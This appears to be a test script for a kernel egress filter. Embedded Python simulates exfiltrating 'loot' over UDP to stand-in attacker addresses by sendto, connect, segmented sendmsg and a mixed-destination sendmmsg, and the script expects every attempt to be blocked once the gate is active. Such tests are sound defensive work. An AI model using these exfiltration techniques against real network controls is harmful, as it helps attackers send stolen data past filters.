#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends UDP by sendto, connect and send, sendmmsg, and as one big segmented message
# stopped-by: connect4, connect6, sendmsg4, sendmsg6
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena udp/9000

attack_by <<'PYTHON'
from attacker import *

SOL_UDP, UDP_SEGMENT = 17, 103

class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]

class mmsghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_size_t), ("length", ctypes.c_size_t)]

def sendmmsg(sock, messages):
    array = (mmsghdr * len(messages))()
    for header, (name, data) in zip(array, messages):
        header.name, header.namelen = name, len(name)
        header.iov, header.iovlen = ctypes.pointer(iovec(data, len(data))), 1
    check(LIBC.sendmmsg(sock.fileno(), array, len(messages), 0))

for evil, family in (EVIL4, "4"), (EVIL6, "6"):
    with attempt("sendto"):
        udp(evil).sendto(loot("sendto" + family), (evil, 9000))
    with attempt("connect"):
        sock = udp(evil)
        sock.connect((evil, 9000))
        sock.send(loot("connect" + family))
    with attempt("segmented"):
        control = [(SOL_UDP, UDP_SEGMENT, struct.pack("H", 100))]
        udp(evil).sendmsg([loot("segmented" + family).ljust(1000, b".")], control, 0, (evil, 9000))
with attempt("sendmmsg"):
    sendmmsg(udp(EVIL4), [(sockaddr4(GOOD4, 9000), honest("many")), (sockaddr4(EVIL4, 9000), loot("many"))])
PYTHON
works stolen:sendto4 stolen:sendto6 stolen:connect4 stolen:connect6 stolen:segmented4 stolen:segmented6 stolen:many
gate
stopped
passes honest:many
recorded connect4 destination
recorded connect6 destination
recorded sendmsg4 destination
recorded sendmsg6 destination
